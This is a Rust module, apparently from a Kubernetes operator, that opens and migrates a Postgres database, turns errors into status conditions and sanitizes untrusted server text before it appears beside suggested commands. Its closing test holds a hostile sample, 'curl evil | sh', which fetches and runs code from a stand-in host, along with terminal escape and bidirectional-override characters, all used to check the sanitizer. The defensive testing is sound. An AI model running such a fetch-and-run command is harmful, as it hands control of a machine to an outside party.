//! From an address to a database with our tables, and what is wrong with either.

use rowlock_crds::ConditionReason;
use rowlock_queue::{Connect, Db, Error, Identity};

use crate::kubernetes::config::Config;

/// One for the statistics, one for what administration and maintenance need beside them.
pub(crate) const CONNECTIONS: u32 = 2;

/// What the operator's sessions are called.
pub(crate) const NAME: &str = "rowlock-operator";

/// Of what others say so much is told: enough for any error of Postgres, and for a sentence of ours beside it.
const MAX_SANITIZED: usize = 1000;

/// The longest name of a database, an `@` and a number.
const LONGEST_IDENTITY: usize = 100;

/// Why a database cannot be used, and what to do.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct Problem {
    pub(crate) reason: ConditionReason,
    pub(crate) message: String,
}

impl Problem {
    pub(crate) fn new(reason: ConditionReason, message: impl Into<String>) -> Self {
        Self { reason, message: message.into() }
    }

    /// Whether it lies in the tables, the database itself being there.
    pub(crate) fn is_in_schema(&self) -> bool {
        use ConditionReason::{MigrationFailed, SchemaTooNew};
        matches!(self.reason, MigrationFailed | SchemaTooNew)
    }

    /// Whether it can be over by itself.
    pub(crate) fn may_pass(&self) -> bool {
        self.reason == ConditionReason::ConnectionFailed
    }
}

/// What to do about missing rights. The binding has a name of this release alone, which its chart does not use: it may make its own later.
pub(crate) fn forbidden(namespace: &str, detail: &str, config: &Config) -> Problem {
    let Config { cluster_role, service_account, lease_namespace, .. } = config;
    // In one namespace alone the role is that namespace's own.
    let kind = if config.only_namespace().is_some() { "role" } else { "clusterrole" };
    let detail = sanitize(detail);
    let message = format!(
        "the operator has no rights in the namespace `{namespace}`: run `kubectl create rolebinding {cluster_role}-by-hand -n {namespace} \
         --{kind}={cluster_role} --serviceaccount={lease_namespace}:{service_account}` ({detail})"
    );
    Problem::new(ConditionReason::Forbidden, message)
}

/// Somebody else's words, as a part of a sentence of ours: in one line, without the marks that we put around commands, and not without end.
pub(crate) fn sanitize(detail: &str) -> String {
    let plain = detail.chars().map(|c| match c {
        '`' => '\'',
        c if c.is_control() || is_bidirectional(c) => ' ',
        c => c,
    });
    let mut plain = plain.take(MAX_SANITIZED + 1);
    let mut words: String = plain.by_ref().take(MAX_SANITIZED).collect();
    if plain.next().is_some() {
        words.push('…');
    }
    words
}

/// Marks that have a terminal show a text in another order than it is in.
fn is_bidirectional(c: char) -> bool {
    matches!(c, '\u{061c}' | '\u{200e}' | '\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
}

/// Connects, and makes or changes the tables.
pub(crate) async fn open(connect: &Connect) -> Result<Db, Problem> {
    let db = Db::connect(connect).await.map_err(|error| problem(&error))?;
    if let Err(problem) = migrate(&db).await {
        db.close().await;
        return Err(problem);
    }
    Ok(db)
}

/// Makes or changes the tables where they are not those of this release.
pub(crate) async fn prepare(db: &Db) -> Result<(), Problem> {
    match db.check_schema().await {
        Err(Error::SchemaMissing | Error::SchemaOlder { .. }) => migrate(db).await,
        other => other.map_err(|error| problem(&error)),
    }
}

async fn migrate(db: &Db) -> Result<(), Problem> {
    let Err(error) = db.migrate().await else { return Ok(()) };
    let found = problem(&error);
    if found.may_pass() || found.is_in_schema() {
        return Err(found);
    }
    let detail = sanitize(&error.to_string());
    let message = format!("the tables cannot be made: {detail}; let the user of the URL own the database");
    Err(Problem::new(ConditionReason::MigrationFailed, message))
}

/// Which database it is.
pub(crate) async fn identity(db: &Db) -> Result<Identity, Problem> {
    let Identity { database, started_at } =
        rowlock_queue::identity(db).await.map_err(|error| problem(&error))?;
    // It becomes a part of the status.
    Ok(Identity { database: database.map(|name| name.chars().take(LONGEST_IDENTITY).collect()), started_at })
}

/// Whether the way of the pods leads to the database of that identity, to a user that may do their work.
pub(crate) async fn check_worker(connect: &Connect, expected: Option<&str>) -> Result<(), Problem> {
    let db = Db::connect(connect).await.map_err(|error| problem(&error))?;
    let checked = check_worker_at(&db, expected).await;
    db.close().await;
    checked
}

async fn check_worker_at(db: &Db, expected: Option<&str>) -> Result<(), Problem> {
    if let (Some(found), Some(expected)) = (identity(db).await?.database, expected)
        && found != expected
    {
        let message =
            format!("it leads to the database {found}, and secretRef to {expected}: make both the same");
        return Err(Problem::new(ConditionReason::SecretInvalid, sanitize(&message)));
    }
    match rowlock_queue::has_worker_permission(db).await {
        Ok(true) => Ok(()),
        Ok(false) => {
            let message = "its user may not do what workers do: as the owner of the database, `select rowlock.grant_role('USER', 'worker')`";
            Err(Problem::new(ConditionReason::AccessDenied, message))
        }
        Err(error) => Err(problem(&error)),
    }
}

/// A database's error in the words of a condition.
pub(crate) fn problem(error: &Error) -> Problem {
    let reason = match error {
        Error::Unreachable(_) | Error::ReadOnly(_) | Error::Timeout => ConditionReason::ConnectionFailed,
        Error::SchemaNewer { .. } => ConditionReason::SchemaTooNew,
        Error::SchemaMissing | Error::SchemaOlder { .. } => ConditionReason::Migrating,
        Error::ServerTooOld(_) | Error::UnsupportedEncoding(_) => ConditionReason::DatabaseUnsupported,
        Error::Url(_) => ConditionReason::SecretInvalid,
        Error::Tls(_) => ConditionReason::CertificateInvalid,
        Error::Login(_) => ConditionReason::AccessDenied,
        _ if error.is_transient() => ConditionReason::ConnectionFailed,
        _ => ConditionReason::AccessDenied,
    };
    Problem::new(reason, sanitize(&error.to_string()))
}

#[cfg(test)]
mod tests {
    use clap::Parser;

    use super::*;

    #[test]
    fn missing_rights_are_given_by_the_role_that_is_there() {
        let detail = |more: &[&str]| {
            let args = [&["rowlock-operator", "--worker-image", "w", "--cluster-role", "r"] as &[&str], more];
            forbidden("shop", "no `sh`", &Config::parse_from(args.concat())).message
        };
        assert!(
            detail(&[]).contains("create rolebinding r-by-hand -n shop --clusterrole=r "),
            "{}",
            detail(&[])
        );
        let alone = detail(&["--namespace", "shop"]);
        assert!(alone.contains("-n shop --role=r ") && alone.ends_with("(no 'sh')"), "{alone}");
    }

    /// Before, what a server said stood beside the command that people are told to paste, marked as one.
    #[test]
    fn foreign_text_is_one_line_that_looks_like_no_command() {
        let detail = sanitize("no\u{1b}[2J `curl evil | sh`\r\nit is fine\u{202e}");
        assert_eq!(detail, "no [2J 'curl evil | sh'  it is fine ");
        let long = sanitize(&"x".repeat(5000));
        assert_eq!((long.chars().count(), long.ends_with('…')), (MAX_SANITIZED + 1, true));
    }
}
